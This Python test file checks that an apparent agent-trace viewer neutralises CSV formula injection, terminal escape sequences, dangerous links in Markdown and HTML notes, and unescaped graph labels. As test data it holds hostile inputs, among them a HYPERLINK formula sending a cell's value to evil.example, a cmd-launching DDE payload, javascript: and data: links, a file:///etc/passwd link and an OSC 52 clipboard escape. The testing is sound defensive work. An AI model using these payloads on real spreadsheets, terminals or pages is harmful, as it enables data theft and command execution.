"""Injection outside the browser: CSV cells a spreadsheet would run as formulas, terminal escapes
in what the CLI prints, live links in notes and reports, and graph labels escaped for their
medium."""

from __future__ import annotations

import csv
import json

import pytest

from factories import example_trace, make_workspace
from viz_app.cli import main
from viz_app.text import csv_cell, csv_value

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]
"""Text that a spreadsheet would evaluate, one per character OWASP lists."""


def test_csv_cell_puts_a_quote_before_text_a_spreadsheet_would_evaluate():
    for text in FORMULAS:
        assert csv_cell(text) == "'" + text
        assert csv_value(csv_cell(text)) == text


def test_csv_cell_leaves_numbers_and_plain_text_alone():
    assert [csv_cell(v) for v in (-1, -0.5, 3, None, True)] == [-1, -0.5, 3, None, True]
    assert [csv_cell(v) for v in ("-1", "+0.5", "-2e3", "ok", "", "1-2")] == \
        ["-1", "+0.5", "-2e3", "ok", "", "1-2"]


def test_csv_cell_reads_back_exactly_text_that_starts_with_a_quote():
    assert csv_cell("'=x") == "''=x" and csv_value("''=x") == "'=x"
    assert csv_value(csv_cell("'plain")) == "'plain"


HOSTILE_ID = "=HYPERLINK(\"http://evil.example\",\"open\")"


@pytest.fixture
def hostile(tmp_path):
    """A workspace with a trace whose id, and a label whose reviewer and comment, are
    formulas."""
    ws = make_workspace(tmp_path, traces=[example_trace(HOSTILE_ID)])
    trace = ws.library.trace(HOSTILE_ID)
    ws.labelling.save(trace, "task_outcome", "failure", "@reviewer", comment="-1+cmd|' /C calc'!A0")
    return ws


def _cells(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as found:
        return list(csv.DictReader(found))


def _starts_a_formula(cell: str) -> bool:
    if cell[:1] not in ("=", "+", "-", "@", "\t", "\r"):
        return False
    try:
        float(cell)  # a number is no formula
    except ValueError:
        return True
    return False


def test_the_csv_export_neutralises_every_text_cell(hostile, tmp_path):
    assert main(["labels", "export", "--format", "csv", "--db", hostile.settings.db_url,
                 "-o", str(tmp_path / "labels.csv")]) == 0
    [row] = _cells(tmp_path / "labels.csv")
    assert row["trace_id"] == "'" + HOSTILE_ID
    assert row["reviewer"] == "'@reviewer"
    assert row["comment"] == "'-1+cmd|' /C calc'!A0"
    assert row["reward"] == "-1.0"  # a number stays a number
    assert json.loads(row["value"]) == "failure"
    assert not [c for r in _cells(tmp_path / "labels.csv") for c in r.values()
                if _starts_a_formula(c)]


def test_the_rewards_csv_neutralises_every_text_cell(hostile, tmp_path):
    assert main(["labels", "export", "--format", "rewards", "--db", hostile.settings.db_url,
                 "-o", str(tmp_path / "rewards.csv")]) == 0
    [row] = _cells(tmp_path / "rewards.csv")
    assert row["trace_id"] == "'" + HOSTILE_ID
    assert row["reward"] == "-1.0" and row["reviewers"] == "1"
    assert not [c for c in row.values() if _starts_a_formula(c)]


def test_a_negative_answer_stays_json_in_the_csv(tmp_path):
    from factories import premature

    ws = make_workspace(tmp_path, traces=[premature()])
    trace = ws.library.trace(premature().trace_id)
    ws.labelling.save(trace, "aggregation_quality", 1, "ann", "e12")
    ws.exports.write("csv", tmp_path / "labels.csv")
    [row] = _cells(tmp_path / "labels.csv")
    assert (row["value"], row["reward"]) == ("1", "-1.0")


# -- terminal escapes ---------------------------------------------------------------------------

OSC52 = "\x1b]52;c;cHduZWQ=\x07"
"""An OSC 52 sequence: writes 'pwned' to the clipboard of a terminal that allows it."""
ANSI = "\x1b[2J\x1b[31m"
"""Clear the screen, then print red."""
TERMINAL_ID = "t" + OSC52 + ANSI + "x"
TERMINAL_AGENT = "orch" + OSC52 + ANSI
TERMINAL_REVIEWER = "mallory" + OSC52 + ANSI
TERMINAL_EVENT = "r" + OSC52


def terminal_trace() -> dict:
    """The example trace with escapes in its id, its orchestrator's name and the id of a return
    to an agent that never appears (which `analyze` warns about)."""
    from factories import example_dict

    raw = json.loads(json.dumps(example_dict()).replace('"orchestrator"',
                                                        json.dumps(TERMINAL_AGENT)))
    raw["trace_id"] = TERMINAL_ID
    last = max(float(e["t"]) for e in raw["events"])
    raw["events"].append({"id": TERMINAL_EVENT, "t": last + 1, "type": "return",
                          "agent": "planner_1", "to": "nobody" + ANSI})
    return raw


def assert_no_escape(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, repr(text)


@pytest.fixture
def terminal_ws(tmp_path):
    """A workspace on the terminal-hostile trace (written to traces/t.json), labelled by ann
    and by a reviewer whose name holds escapes, who disagree."""
    folder = tmp_path / "traces"
    folder.mkdir()
    (folder / "t.json").write_text(json.dumps(terminal_trace()))
    ws = make_workspace(tmp_path, traces=[folder])
    trace = ws.library.trace(TERMINAL_ID)
    ws.labelling.save(trace, "task_outcome", "success", "ann")
    ws.labelling.save(trace, "task_outcome", "failure", TERMINAL_REVIEWER)
    return ws


def test_inspect_prints_no_escape_from_a_trace_id_or_an_agent_name(terminal_ws, capsys):
    assert main(["inspect", str(terminal_ws.settings.traces[0] / "t.json")]) == 0
    out = capsys.readouterr().out
    assert_no_escape(out)
    assert "t\\x1b]52;c;cHduZWQ=\\x07" in out and "orch\\x1b]52" in out


def test_import_prints_no_escape_from_warnings_or_errors(terminal_ws, tmp_path, capsys):
    broken = tmp_path / f"broken{OSC52}.json"
    broken.write_text('{"trace_id": "x", "events": [')
    main(["import", str(terminal_ws.settings.traces[0] / "t.json"), str(broken),
          "--out-dir", str(tmp_path / "out")])
    captured = capsys.readouterr()
    assert_no_escape(captured.out + captured.err)
    assert "warning: return r\\x1b]52" in captured.err  # the warning is there, shown
    assert "broken\\x1b]52;c;cHduZWQ=\\x07.json" in captured.err  # so is the error


def test_validate_prints_no_escape_from_a_file_name(tmp_path, capsys):
    path = tmp_path / f"ok{ANSI}.json"
    path.write_text(json.dumps(terminal_trace()))
    assert main(["validate", str(path)]) == 0
    out = capsys.readouterr().out
    assert_no_escape(out)
    assert "ok\\x1b[2J" in out


def test_labels_progress_prints_no_escape_from_a_trace_id(terminal_ws, capsys):
    assert main(["labels", "progress", "--db", terminal_ws.settings.db_url,
                 "--traces", str(terminal_ws.settings.traces[0])]) == 0
    out = capsys.readouterr().out
    assert_no_escape(out)
    assert "t\\x1b]52;c;cHduZWQ=\\x07\\x1b[2J\\x1b[31mx: " in out


def test_labels_agreement_prints_no_escape_from_a_reviewer_name(terminal_ws, capsys):
    assert main(["labels", "agreement", "--db", terminal_ws.settings.db_url]) == 0
    out = capsys.readouterr().out
    assert_no_escape(out)
    assert "mallory\\x1b]52;c;cHduZWQ=\\x07" in out and "t\\x1b]52" in out


def test_labels_import_prints_no_escape_from_a_bad_record(terminal_ws, tmp_path, capsys):
    path = tmp_path / f"labels{ANSI}.jsonl"
    path.write_text(json.dumps({"trace_id": TERMINAL_ID, "event_id": TERMINAL_EVENT,
                                "question": "task_outcome", "value": "success",
                                "reviewer": TERMINAL_REVIEWER}) + "\n")
    assert main(["labels", "import", str(path), "--db", terminal_ws.settings.db_url,
                 "--traces", str(terminal_ws.settings.traces[0])]) == 1
    captured = capsys.readouterr()
    assert_no_escape(captured.out + captured.err)
    assert "nothing imported" in captured.err


def test_an_error_main_prints_has_no_escape(tmp_path, capsys):
    assert main(["inspect", str(tmp_path / f"missing{OSC52}.json")]) == 1
    captured = capsys.readouterr()
    assert_no_escape(captured.out + captured.err)
    assert "missing\\x1b]52" in captured.err


def test_report_prints_no_escape_from_a_trace_id(terminal_ws, tmp_path, capsys):
    assert main(["report", str(terminal_ws.settings.traces[0] / "t.json"),
                 "--db", terminal_ws.settings.db_url, "-o", str(tmp_path / "r.html")]) == 0
    captured = capsys.readouterr()
    assert_no_escape(captured.out + captured.err)
    assert "t\\x1b]52" in captured.out


# -- live outbound links ------------------------------------------------------------------------

URL_TASK = "see https://evil.example/steal?x=1 or www.evil.example or ann@evil.example now"


def _links(markdown: str) -> list[str]:
    """Every link and image CommonMark finds in a Markdown text (any scheme), plus what GFM's
    autolinks would find in its text (bare URLs, www. addresses, e-mail addresses)."""
    import re

    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True
    found: list[str] = []

    def walk(tokens) -> None:
        for token in tokens:
            if token.type in ("link_open", "image"):
                found.append(str(token.attrGet("href") or token.attrGet("src")))
            if token.type == "text":
                found.extend(re.findall(r"https?://\S+|www\.\S+|[\w.+-]+@[\w-]+\.\w+",
                                        token.content))
            walk(token.children or ())

    walk(parser.parse(markdown))
    return found


def test_markdown_literal_leaves_no_bare_url_for_gfm_to_link():
    from viz_app.text import WORD_JOINER, markdown_literal

    shown = markdown_literal(URL_TASK, None)
    assert _links(shown) == []
    assert shown.replace(WORD_JOINER, "").replace("\\", "") == URL_TASK  # it reads the same


NOTE_ATTACKS = [
    "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1) \"title\")", "<data:text/html,hi>", "<javascript:alert(1)>",
    "[x][evil]\n\n[evil]: data:text/html,hi", "[x][evil]\n\n[evil]:\n  javascript:alert(1)",
    "![pixel](https://tracker.example/p.png)", "![pixel](data:image/svg+xml,<svg/>)",
    "[a [b](javascript:x) c](https://ok.example)", "[x](file:///etc/passwd)", "[x](/relative)",
    "mail me: ann@evil.example", "<b onclick=alert(1)>bold</b>",
]


@pytest.mark.parametrize("note", NOTE_ATTACKS)
def test_a_note_in_markdown_keeps_no_link_but_to_http(note):
    from viz_app.text import note_markdown

    safe = note_markdown(note)
    assert all(link.startswith(("http://", "https://")) for link in _links(safe)), safe
    assert "<b" not in safe and "<data" not in safe and "<javascript" not in safe


@pytest.mark.parametrize("note", NOTE_ATTACKS)
def test_a_note_in_html_keeps_no_link_but_to_http(note):
    import re

    from viz_app.text import note_html

    rendered = note_html(note)
    assert all(h.startswith(("http://", "https://"))
               for h in re.findall(r'\bhref="([^"]*)"', rendered)), rendered
    assert "<img" not in rendered and "<b " not in rendered and "src=" not in rendered


def test_a_note_keeps_its_markdown_and_its_http_links():
    from viz_app.text import note_html, note_markdown

    note = "## Why\n\n**dropped** the [profiler's result](https://example.org/run?id=1) `a<b`"
    assert note_markdown(note, headings_below=2) == \
        "#### Why\n\n**dropped** the [profiler's result](https://example.org/run?id=1) `a<b`"
    assert note_html(note, headings_below=2) == (
        "<h4>Why</h4>\n<p><strong>dropped</strong> the <a href=\"https://example.org/run?id=1\" "
        "rel=\"noopener noreferrer\">profiler's result</a> <code>a&lt;b</code></p>")


def test_the_markdown_report_drops_a_javascript_link_from_a_note():
    from factories import premature
    from viz_app.export.report import report_html, report_markdown
    from viz_app.labels.bookmark import Bookmark

    trace = premature()
    mark = Bookmark(version_id="v", bookmark_id="b", trace_id=trace.trace_id, trace_sha256="",
                    event_id=None, start_s=0.0, end_s=0.0,
                    note="[click me](javascript:alert(1)) and [ok](https://example.org)",
                    reviewer="ann", created_at="2026-01-01T00:00:00.000000Z")
    text = report_markdown(trace, [], [mark])
    assert "javascript:" not in text and "click me and [ok](https://example.org)" in text
    assert [x for x in _links(text) if "javascript" in x or "data:" in x] == []
    html_report = report_html(trace, [], [mark])
    assert 'href="javascript' not in html_report and "click me and <a href" in html_report


@pytest.fixture
def linked_app(app_server, tmp_path):
    """The app on two traces whose task ids hold a URL, a www. address and an e-mail address,
    the first with a bookmark whose note holds a data: link, a javascript: link and an http
    link."""
    from factories import example_dict

    folder = tmp_path / "traces"
    folder.mkdir()
    for name in ("url-a", "url-b"):
        raw = example_dict()
        raw["trace_id"], raw["task_id"] = name, f"{URL_TASK} ({name})"
        (folder / f"{name}.json").write_text(json.dumps(raw))
    ws = make_workspace(tmp_path, traces=[folder])
    ws.bookmarks.add(ws.library.trace("url-a"), "ann", "the [payload](data:text/html,<b>hi</b>) and "
                     "[run](javascript:alert(1)); see [the docs](https://example.org/docs)",
                     event_id="e1")
    return app_server(ws)


def _live_links(page) -> list[str]:
    return page.eval_on_selector_all('[data-testid="stMain"] a[href]',
                                     "els => els.map(e => e.getAttribute('href'))")


@pytest.mark.browser
def test_no_link_in_a_task_id_or_a_note_is_live_but_the_note_s_http_link(linked_app, page):
    from conftest import shot, wait_for_streamlit

    page.goto(f"{linked_app}/trace?trace=url-a")
    wait_for_streamlit(page, 60_000)
    page.get_by_text("Bookmarks and notes (1)").first.wait_for()
    page.get_by_text("evil.example/steal?x=1", exact=False).first.wait_for()
    note = page.get_by_text("the payload and run; see", exact=False).first
    note.wait_for()
    note.scroll_into_view_if_needed()
    shot(page, "links_trace_page")
    live = _live_links(page)
    assert "https://example.org/docs" in live
    assert not [h for h in live if "evil" in h or h.startswith(("data:", "javascript:",
                                                                  "mailto:"))], live
    page.goto(f"{linked_app}/compare?a=url-a&b=url-b")
    wait_for_streamlit(page, 60_000)
    page.get_by_text("Different tasks", exact=False).first.wait_for()
    shot(page, "links_compare_page")
    assert not [h for h in _live_links(page) if "evil" in h or h.startswith("mailto:")]


# -- the communication graph: text on a canvas, titles as text ---------------------------------

ODD_AGENT = "plan<ner> & co"
HREF_AGENT = '<a href="https://evil.example">x</a>'


def _graph_page(*renames: tuple[str, str]) -> str:
    from factories import as_trace, example_dict
    from viz_app import charts
    from viz_app.analysis import analyze

    text = json.dumps(example_dict())
    for old, new in renames:
        text = text.replace(json.dumps(old), json.dumps(new))
    return charts.communication_html(analyze(as_trace(json.loads(text))))


def _graph_data(page: str, name: str) -> list[dict]:
    start = page.index(f"{name} = new vis.DataSet(") + len(f"{name} = new vis.DataSet(")
    return json.JSONDecoder().raw_decode(page[start:])[0]


def test_a_node_label_and_title_are_the_agent_s_name_as_written():
    page = _graph_page(("planner_1", ODD_AGENT))
    [node] = [n for n in _graph_data(page, "nodes") if "plan" in n["label"]]
    assert node["label"] == ODD_AGENT  # drawn on a canvas: no entity to show as &lt;
    assert node["title"].startswith(f"{ODD_AGENT} (planner)\nevents ")
    assert any(e["title"].startswith(f"orchestrator → {ODD_AGENT}: spawn")
               for e in _graph_data(page, "edges"))
    assert "&lt;" not in page[page.index("new vis.DataSet("):]
    assert "\\u003cner\\u003e" in page  # written into the script as escaped JSON


def test_a_title_holding_href_never_switches_pyvis_to_its_html_popup():
    page = _graph_page(("planner_1", HREF_AGENT))
    assert "popup.innerHTML" not in page  # pyvis's link template would set titles as HTML
    [node] = [n for n in _graph_data(page, "nodes") if "evil" in n["title"]]
    assert node["title"].replace("\u2060", "").startswith(HREF_AGENT)


@pytest.mark.browser
def test_the_graph_shows_an_agent_s_name_as_written_in_chromium(page, tmp_path):
    from conftest import shot

    path = tmp_path / "graph.html"
    path.write_text(_graph_page(("planner_1", ODD_AGENT), ("executor_1", HREF_AGENT)))
    page.goto(path.as_uri())
    page.wait_for_function("() => typeof network !== 'undefined'")
    page.wait_for_timeout(1500)
    labels = page.evaluate("() => nodes.get().map(n => n.label)")
    assert ODD_AGENT in labels
    where = page.evaluate("""(name) => {
        const id = nodes.get().find(n => n.label === name).id;
        return network.canvasToDOM(network.getPositions([id])[id]);
    }""", ODD_AGENT)
    box = page.locator("#mynetwork").bounding_box()
    page.mouse.move(box["x"] + where["x"], box["y"] + where["y"])
    tooltip = page.locator(".vis-tooltip")
    tooltip.wait_for(state="visible")
    assert tooltip.inner_text().startswith(f"{ODD_AGENT} (planner)")
    assert page.locator("#mynetwork a").count() == 0  # the href agent made no element
    shot(page, "graph_tooltip_as_text")


# -- control characters in a reviewer's note and comment (issue 39, item 7) -----------------------

STEERING_NOTE = ("title\x1b]0;pwned\x07 red\x1b[31m nul\x00 del\x7f csi\x9b2J cr\rx "
                 "rtl\u202eevil tab\tnew\nline")
"""A note that sets a terminal's title, colours it, and holds every other kind of control."""


def test_visible_text_shows_each_control_as_its_picture_and_keeps_tabs_and_newlines():
    from viz_app.text import visible_text

    assert visible_text(STEERING_NOTE) == ("title␛]0;pwned␇ red␛[31m nul␀ del␡ csi�2J cr␍x "
                                           "rtlevil tab\tnew\nline")
    assert visible_text("windows\r\nline") == "windows\nline"
    assert visible_text("family 👨\u200d👩\u200d👧") == "family 👨\u200d👩\u200d👧"


def test_no_control_byte_of_a_note_or_comment_reaches_case_md_case_html_or_the_csv(tmp_path):
    from factories import PREMATURE, PREMATURE_ID

    ws = make_workspace(tmp_path, traces=[PREMATURE])
    trace = ws.library.trace(PREMATURE_ID)
    ws.bookmarks.add(trace, "ann", STEERING_NOTE, event_id="e13")
    ws.labelling.save(trace, "task_outcome", "success", "ann", comment=STEERING_NOTE)
    db = str(tmp_path / "orchviz.db")
    assert main(["report", str(PREMATURE), "--db", db, "-o", str(tmp_path / "case.html")]) == 0
    assert main(["report", str(PREMATURE), "--db", db, "-o", str(tmp_path / "case.md"),
                 "--format", "md"]) == 0
    ws.exports.write("csv", tmp_path / "labels.csv")
    for name in ("case.md", "labels.csv", "case.html"):
        text = (tmp_path / name).read_text("utf-8")
        if name == "case.html":  # Plotly's inlined script is not trace text: the page's body is
            text = text.split('id="bookmarks"', 1)[1]
        assert not any(ch in text for ch in "\x1b\x07\x00\x7f\x9b\u202e"), name
    assert "title␛]0;pwned␇ red␛[31m" in (tmp_path / "case.md").read_text("utf-8")
    assert "title␛]0;pwned␇ red␛[31m" in (tmp_path / "labels.csv").read_text("utf-8")
